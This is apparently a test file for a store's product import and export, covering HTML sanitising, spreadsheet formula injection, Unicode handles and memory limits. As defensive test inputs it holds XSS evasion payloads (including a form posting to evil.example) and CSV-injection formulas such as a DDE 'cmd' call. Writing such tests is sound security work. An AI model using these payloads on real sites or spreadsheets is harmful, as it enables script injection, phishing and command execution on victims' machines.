import type { StoreContext } from "@hutong/db";
import { createTestDatabase, createTestStore, type TestDatabase } from "@hutong/db/testing";
import { isHandle, toHandle } from "@hutong/kernel";
import fc from "fast-check";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { exportProducts, importProducts } from "./index.ts";

let database: TestDatabase;
let ctx: StoreContext;
beforeAll(async () => {
  database = await createTestDatabase();
});
beforeEach(async () => {
  ctx = await createTestStore(database);
});
afterAll(() => database.drop());

const run = (bytes: Uint8Array) =>
  importProducts(ctx, async function* () {
    for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536);
  });
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const csv = (header: string, rows: readonly (readonly string[])[]) =>
  Buffer.from(`${header}\n${rows.map((row) => row.map(cell).join(",")).join("\n")}\n`);

async function exported(format: "csv" | "jsonl"): Promise<string> {
  let text = "";
  for await (const piece of exportProducts(ctx, { origin: "https://tea.example", format })) text += piece;
  return text;
}

// What browsers have run in one place or another: OWASP, XSS Filter Evasion Cheat Sheet.
const markup = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  '<svg onload="alert(1)"><script href="data:,alert(1)"/></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext></p><a href="javascript:alert(1)">x</a></mtext></math>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=x.swf></object><embed src=x>",
  '<form action="https://evil.example"><input name=password><button formaction="javascript:x">',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  "<template><script>alert(1)</script></template>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  `${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}`,
];
// An element that runs, an attribute that runs, or an address that does.
const runs =
  /<(?!\/?(?:p|br|h[2-6]|ul|ol|li|dl|dt|dd|strong|b|em|i|u|s|sub|sup|small|blockquote|hr|a|img|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td|div|span|pre|code)\b)|<[^>]*\s(?:on\w+|style|srcdoc|formaction)\s*=|(?:javascript|vbscript|data)\s*:/i;

test("nothing that runs is stored of a description, and as a title it stays text", async () => {
  const rows = markup.map((html, index) => [`m${index}`, html.slice(0, 200), html]);
  const report = await run(csv("Handle,Title,Body (HTML)", rows));
  expect(report).toMatchObject({ products: { created: markup.length }, refused: [] });
  const stored =
    await database.owner`select description_html as html from products where store_id = ${ctx.storeId}`;
  expect(stored.map(({ html }) => html).filter((html) => runs.test(html))).toEqual([]);
  expect((await run(csv("Handle,Title,Body (HTML)", rows))).isUnchanged).toBe(true);
});

// OWASP, CSV Injection; full-width forms are read as formulas by Excel in Chinese and Japanese.
const formulas = [
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  "=cmd|' /C calc'!A0",
  "'=1",
  "''+1",
  "'0012",
  '=HYPERLINK("http://x","y")',
  "\t=1",
  "\r=1",
];

test("no text of an export is run as a formula, wherever it begins, and each comes back as it was", async () => {
  const rows = formulas.map((text, index) => [`f${index}`, `t ${index}`, text, `${text}, x`, text]);
  const header = "Handle,Title,Vendor,Tags,SEO Title";
  await run(csv(header, rows));
  const first = await exported("csv");
  const begins = [...first.matchAll(/(?<=^|,|\n)"?([=+@\t＝＋－＠]|\r(?!\n)|-(?!\d+(?:\.\d+)?(?:,|\r)))/g)];
  expect(begins).toEqual([]);
  const jsonl = await exported("jsonl");
  expect((await run(Buffer.from(first))).isUnchanged).toBe(true);
  expect(await exported("jsonl")).toBe(jsonl);
});

describe("handles in every script", () => {
  test.each([
    ["Arabic", "شاي أخضر", "شاي-أخضر"],
    ["Arabic with vowels", "شَاي", "شَاي"],
    ["Thai", "ชาเขียว", "ชาเขียว"],
    ["Thai that differs in a mark alone", "กี่", "กี่"],
    ["Hindi", "हरी चाय", "हरी-चाय"],
    ["Hebrew", "תה ירוק", "תה-ירוק"],
    ["Korean", "녹차", "녹차"],
    ["Japanese", "煎茶（深蒸し）", "煎茶-深蒸し"],
    ["Chinese beyond the first plane", "𠮷野茶", "𠮷野茶"],
    ["Greek and Turkish capitals", "ΤΣΆΙ İÇ", "τσάι-i̇ç"],
    ["full-width", "ＡＢＣ１２", "abc12"],
    ["an override of direction", "tea\u202egnp.exe", "tea-gnp-exe"],
    ["emoji between letters", "tea ❤️ 🍵 cup", "tea-cup"],
  ])("%s", async (_, title, handle) => {
    expect(await run(csv("Title,Price", [[title, "1"]]))).toMatchObject({
      products: { created: 1 },
      refused: [],
    });
    const rows = await database.owner`select handle from products where store_id = ${ctx.storeId}`;
    expect(rows).toEqual([{ handle }]);
    expect((await run(Buffer.from(await exported("csv")))).isUnchanged).toBe(true);
  });

  test("twins of NFC and NFD are one product, words that differ in a mark are two", async () => {
    const twins = [
      ["caf\u00e9", "One"],
      ["cafe\u0301", "Two"],
    ];
    expect(await run(csv("Handle,Title", twins))).toMatchObject({ products: { created: 1 } });
    const marks = [
      ["กี", "1"],
      ["กี่", "2"],
    ];
    expect(await run(csv("Title,Price", marks))).toMatchObject({ products: { created: 2 } });
  });

  test("emoji alone is no handle; one is cut between characters; beyond 255 it is made anew", async () => {
    const long = `${"x".repeat(119)}𠮷𠮷`;
    const report = await run(
      csv("Handle,Title", [
        ["🍵", "Emoji"],
        ["", long],
        ["茶".repeat(300), "Long"],
      ]),
    );
    expect(report.refused).toMatchObject([{ line: 2, code: "handle_missing" }]);
    const rows =
      await database.owner`select handle from products where store_id = ${ctx.storeId} order by length(handle), handle`;
    expect(rows.map(({ handle }) => handle).sort()).toEqual(
      [`${"x".repeat(119)}𠮷`, "茶".repeat(120)].sort(),
    );
  });

  test("what is made of any text is empty or well formed, and stays what it is", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => {
        const handle = toHandle(text);
        expect(handle === "" || (isHandle(handle) && handle.isWellFormed())).toBe(true);
        expect(toHandle(handle)).toBe(handle);
      }),
      { numRuns: 200 },
    );
  });
});

test("GB 18030 with characters of four bytes is read as such", async () => {
  // 老墙 in two bytes each, 㐀 (U+3400) and 𠀀 (U+20000) in four: GB 18030-2022, tables of ranges.
  const title = Buffer.from("c0cfc7bd8139ee3995328236", "hex");
  const bytes = Buffer.concat([Buffer.from("Handle,Title\nq,"), title, Buffer.from("\n")]);
  expect(await run(bytes)).toMatchObject({ encoding: "gb18030", products: { created: 1 } });
  const rows = await database.owner`select title from products where store_id = ${ctx.storeId}`;
  expect(rows).toEqual([{ title: "老墙㐀𠀀" }]);
});

test.each([
  ["100 MB in one cell", '"a","', "x".repeat(1_000_000), 100, '","1"\n', "cell_too_long"],
  ["10^7 tags in one cell", '"a","A","1","', "tag,".repeat(100_000), 100, '"\n', "cell_too_long"],
  ["3 × 10^6 cells in one row", '"a","A","1"', ",".repeat(1_000_000), 3, "\n", "cells_too_many"],
])("%s: refused with its row, in bounded memory", async (_, start, piece, count, end, code) => {
  const body = Buffer.from(piece);
  globalThis.gc?.();
  const before = process.memoryUsage.rss();
  let most = before;
  const report = await importProducts(ctx, async function* () {
    yield Buffer.from(`Handle,Title,Price,Tags\n${start}`);
    for (let index = 0; index < count; index += 1) {
      yield body;
      most = Math.max(most, process.memoryUsage.rss());
    }
    yield Buffer.from(`${end}"last","Last","1",""\n`);
  });
  expect(report.refused).toMatchObject([{ line: 2, code }]);
  expect(report.products.created).toBe(1);
  expect((most - before) / 1024 ** 2).toBeLessThan(120);
});
